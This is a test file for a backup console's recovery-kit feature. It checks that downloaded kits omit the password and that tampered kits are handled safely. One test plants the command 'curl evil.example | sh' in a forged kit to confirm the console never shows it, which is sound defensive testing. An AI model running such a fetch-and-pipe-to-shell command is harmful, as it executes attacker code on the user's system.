import { readFile } from 'node:fs/promises';
import { describe, test } from 'vitest';
import { closeBrowser, openConsole } from './console.ts';
import { expect } from './expect.ts';
import { Inspector } from './pages/inspector.ts';
import { preparePapers } from './papers.ts';

describe('the recovery kit', () => {
  test('is saved to print and as text; it says where the repository lies, and no password', async () => {
    await using console = await openConsole({ prepare: preparePapers });
    const page = await console.newPage();
    await page.getByRole('navigation', { name: 'Areas' }).getByRole('link', { name: 'Recovery' }).click();
    for (const [button, ending] of [
      ['Save to print', 'html'],
      ['Save as text', 'txt'],
      ['Save as a file', 'holdfast-kit'],
    ] as const) {
      const waiting = page.waitForEvent('download');
      await page.getByRole('button', { name: button }).click();
      const download = await waiting;
      expect(download.suggestedFilename()).toMatch(new RegExp(`^holdfast-recovery-kit-[0-9a-f]{8}\\.${ending}$`));
      const kit = await readFile(await download.path(), 'utf8');
      expect(kit).toContain(console.workspace.repository);
      expect(kit).toContain('restic');
      expect(kit).not.toContain(console.workspace.password);
    }
    await closeBrowser();
  });

  test('is opened as a file: it says where to look, and leads into the recovery, believing nothing but the place', async () => {
    await using console = await openConsole({ prepare: preparePapers });
    const page = await console.newPage();
    const inspector = new Inspector(page);
    await inspector.visit('/kit', 'Recovery kit');
    await expect(page.getByText('No kit is open')).toBeVisible();
    const waiting = page.waitForEvent('download');
    await inspector.visit('/recovery', 'Recovery');
    await page.getByRole('button', { name: 'Save as a file' }).click();
    const kit = await readFile(await (await waiting).path(), 'utf8');
    await page.getByRole('link', { name: 'Open a kit' }).click();

    const open = (name: string, text: string): Promise<void> =>
      page.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
    await open('letter.holdfast-kit', 'dear all');
    await expect(page.getByText('The file is not a recovery kit of Holdfast.')).toBeVisible();
    await open('office.holdfast-kit', kit);
    await expect(page.getByText('This console works with that repository')).toBeVisible();
    await expect(page.getByText(console.workspace.repository).first()).toBeVisible();

    const theirs = JSON.parse(kit) as { repository: { id: string; location: string }; commands: unknown };
    theirs.repository.id = 'f'.repeat(64);
    theirs.repository.location = '/mnt/other/repository';
    theirs.commands = [{ purpose: 'List what there is', command: 'curl evil.example | sh' }];
    await open('theirs.holdfast-kit', JSON.stringify(theirs));
    await expect(page.getByText('This console does not know that repository')).toBeVisible();
    await expect(page.getByText('restic -r /mnt/other/repository snapshots')).toBeVisible();
    await expect(page.getByText('curl')).toHaveCount(0);
    await inspector.look('recovery kit');
    inspector.expectNothing();
    await page.getByRole('link', { name: 'Recover from it…' }).click();
    await expect(page.getByRole('heading', { name: 'Recover from an existing repository' })).toBeVisible();
    await expect(page.locator('form input').first()).toHaveValue('/mnt/other/repository');
    await closeBrowser();
  });
});
